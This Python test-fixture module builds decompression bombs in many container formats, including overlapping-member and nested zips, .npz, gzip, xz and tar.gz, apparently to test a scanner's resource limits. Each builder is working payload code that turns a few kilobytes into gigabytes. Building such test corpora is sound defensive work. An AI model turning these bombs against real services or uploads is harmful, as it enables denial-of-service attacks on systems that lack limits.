"""Decompression-bomb corpus for every container the scanner opens (tests and benchmarks).

Each builder returns a small file (kilobytes) that expands to about ``mib`` MiB of zeros, or
many times that when nested. Deflate streams are assembled from one full-flushed 1 MiB block
repeated (no need to compress gigabytes); bzip2 and LZMA kernels are compressed once and cached.
Zip files are written by hand so that every method Python reads can be used, and so that the
overlapping-member layout ("A better zip bomb", D. Fifield, WOOT 2019: many central-directory
entries sharing one compressed kernel) can be produced. Nothing here is malicious code: the
bombs only waste memory and time of a reader without limits.
"""

from __future__ import annotations

import bz2
import functools
import gzip
import io
import lzma
import struct
import tarfile
import zlib
from dataclasses import dataclass

MIB = 1 << 20
_ZERO = b"\0" * MIB


@dataclass(frozen=True)
class ZipEntry:
    """A member written verbatim: ``raw`` is the already-compressed data."""

    name: str
    method: int
    raw: bytes
    size: int
    crc: int


def deflate_zeros(mib: int) -> bytes:
    """Raw deflate data inflating to ``mib`` MiB of zeros (about 1 KB per MiB)."""
    block = _deflate_block()
    return block * mib + zlib.compressobj(9, zlib.DEFLATED, -15).flush()


@functools.lru_cache(maxsize=1)
def _deflate_block() -> bytes:
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    return co.compress(_ZERO) + co.flush(zlib.Z_FULL_FLUSH)


@functools.lru_cache(maxsize=8)
def bzip2_zeros(mib: int) -> bytes:
    """One bzip2 stream of ``mib`` MiB of zeros (a few hundred bytes)."""
    c = bz2.BZ2Compressor(9)
    return b"".join(c.compress(_ZERO) for _ in range(mib)) + c.flush()


@functools.lru_cache(maxsize=8)
def lzma_zeros(mib: int, raw: bool = False) -> bytes:
    """xz (or raw LZMA1, as zip members use) data of ``mib`` MiB of zeros."""
    if raw:
        c = lzma.LZMACompressor(lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA1, "preset": 0}])
    else:
        c = lzma.LZMACompressor(preset=0)
    return b"".join(c.compress(_ZERO) for _ in range(mib)) + c.flush()


@functools.lru_cache(maxsize=8)
def crc_zeros(mib: int, prefix: bytes = b"") -> int:
    crc = zlib.crc32(prefix)
    for _ in range(mib):
        crc = zlib.crc32(_ZERO, crc)
    return crc


def zip_lzma_raw(mib: int) -> bytes:
    """A zip LZMA member body: version, properties size, LZMA1 properties, raw stream."""
    props = lzma._encode_filter_properties(  # type: ignore[attr-defined]
        {"id": lzma.FILTER_LZMA1, "preset": 0}
    )
    return struct.pack("<BBH", 9, 4, len(props)) + props + lzma_zeros(mib, raw=True)


def zeros_entry(name: str, mib: int, method: int = 8) -> ZipEntry:
    """A member of ``mib`` MiB of zeros compressed with a zip ``method`` (8, 12 or 14)."""
    if method == 8:
        raw = deflate_zeros(mib)
    elif method == 12:
        raw = bzip2_zeros(mib)
    else:
        raw = zip_lzma_raw(mib)
    return ZipEntry(name, method, raw, mib * MIB, crc_zeros(mib))


def write_zip(entries: list[ZipEntry], share_first: bool = False) -> bytes:
    """Write a zip verbatim; ``share_first``: every central entry points at the first member."""
    out = io.BytesIO()
    offsets: list[int] = []
    for i, e in enumerate(entries):
        if share_first and i:
            offsets.append(offsets[0])
            continue
        offsets.append(out.tell())
        name = e.name.encode()
        out.write(
            struct.pack(
                "<4sHHHHHIIIHH",
                b"PK\x03\x04",
                20,
                0,
                e.method,
                0,
                0x21,
                e.crc,
                len(e.raw),
                e.size,
                len(name),
                0,
            )  # fmt: skip
        )
        out.write(name + e.raw)
    cd_start = out.tell()
    for e, off in zip(entries, offsets, strict=True):
        name = e.name.encode()
        out.write(
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                0,
                e.method,
                0,
                0x21,
                e.crc,
                len(e.raw),
                e.size,
                len(name),
                0,
                0,
                0,
                0,
                0,
                off,
            )  # fmt: skip
        )
        out.write(name)
    cd_size = out.tell() - cd_start
    n = len(entries)
    out.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, n, n, cd_size, cd_start, 0))
    return out.getvalue()


def npy_header(n_floats: int) -> bytes:
    """A version-1 ``.npy`` header for ``n_floats`` little-endian float64 values."""
    d = f"{{'descr': '<f8', 'fortran_order': False, 'shape': ({n_floats},), }}"
    pad = 64 - (10 + len(d) + 1) % 64
    text = (d + " " * pad + "\n").encode()
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text


def npz_bomb(mib: int, method: int) -> bytes:
    """An ``.npz`` whose one array expands to ``mib`` MiB (numpy.load reads it)."""
    head = npy_header(mib * MIB // 8)
    if method == 8:
        co = zlib.compressobj(9, zlib.DEFLATED, -15)
        raw = co.compress(head) + co.flush(zlib.Z_FULL_FLUSH) + deflate_zeros(mib)
    else:  # lzma: compress header + zeros as one stream
        c = lzma.LZMACompressor(lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA1, "preset": 0}])
        body = c.compress(head) + b"".join(c.compress(_ZERO) for _ in range(mib)) + c.flush()
        props = lzma._encode_filter_properties(  # type: ignore[attr-defined]
            {"id": lzma.FILTER_LZMA1, "preset": 0}
        )
        raw = struct.pack("<BBH", 9, 4, len(props)) + props + body
    entry = ZipEntry("arr_0.npy", method, raw, len(head) + mib * MIB, crc_zeros(mib, head))
    return write_zip([entry])


def gzip_zeros(mib: int) -> bytes:
    """gzip member built around the repeated deflate block."""
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    trailer = struct.pack("<II", crc_zeros(mib), (mib * MIB) & 0xFFFFFFFF)
    return header + deflate_zeros(mib) + trailer


def tar_gz_bomb(mib: int) -> bytes:
    """A gzip'd tar with one member of ``mib`` MiB of zeros."""
    ti = tarfile.TarInfo("model.bin")
    ti.size = mib * MIB
    head = ti.tobuf(format=tarfile.USTAR_FORMAT)
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = co.compress(head) + co.flush(zlib.Z_FULL_FLUSH) + deflate_zeros(mib)
    gz = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + body
    return gz + struct.pack("<II", crc_zeros(mib, head), (len(head) + mib * MIB) & 0xFFFFFFFF)


def bomb_corpus(mib: int = 1024) -> dict[str, bytes]:
    """Name -> bytes of one bomb per container kind, each expanding to at least ``mib`` MiB.

    ``mib`` must be a multiple of 16. The nested and overlapping zips reach ``mib`` with 16
    times smaller kernels; ``gzip-nested.gz`` is a gzip of the ``gzip.gz`` bomb.
    """
    k = mib // 16
    inner = write_zip([zeros_entry(f"{i}.bin", k) for i in range(16)])
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    inner_raw = co.compress(inner) + co.flush()
    nested = write_zip(
        [ZipEntry(f"{i}.zip", 8, inner_raw, len(inner), zlib.crc32(inner)) for i in range(16)]
    )
    return {
        "zip-deflate.zip": write_zip([zeros_entry("model.bin", mib, 8)]),
        "zip-bzip2.zip": write_zip([zeros_entry("model.bin", mib, 12)]),
        "zip-lzma.zip": write_zip([zeros_entry("model.bin", mib, 14)]),
        "zip-overlap.zip": write_zip(
            [zeros_entry(f"{i}.bin", k) for i in range(16 * 16)], share_first=True
        ),
        "zip-nested.zip": nested,
        "npz-deflate.npz": npz_bomb(mib, 8),
        "npz-lzma.npz": npz_bomb(mib, 14),
        "gzip.gz": gzip_zeros(mib),
        "gzip-nested.gz": gzip.compress(gzip_zeros(mib * 16), mtime=0),
        "bzip2.bz2": bzip2_zeros(mib),
        "xz.xz": lzma_zeros(mib),
        "zlib.z": b"\x78\xda" + deflate_zeros(mib) + b"\0\0\0\0",
        "tar.gz": tar_gz_bomb(mib),
    }
